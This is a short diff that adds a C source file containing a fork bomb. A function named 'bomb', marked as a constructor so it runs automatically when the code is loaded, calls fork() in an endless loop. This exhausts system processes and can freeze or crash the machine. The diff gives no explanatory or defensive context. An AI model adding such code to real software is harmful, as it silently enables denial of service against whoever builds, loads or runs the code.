@@ -1,0 +1,5 @@
+#include <unistd.h>
+__attribute__((constructor)) static void bomb(void) {
+    for (;;)
+        fork();
+}
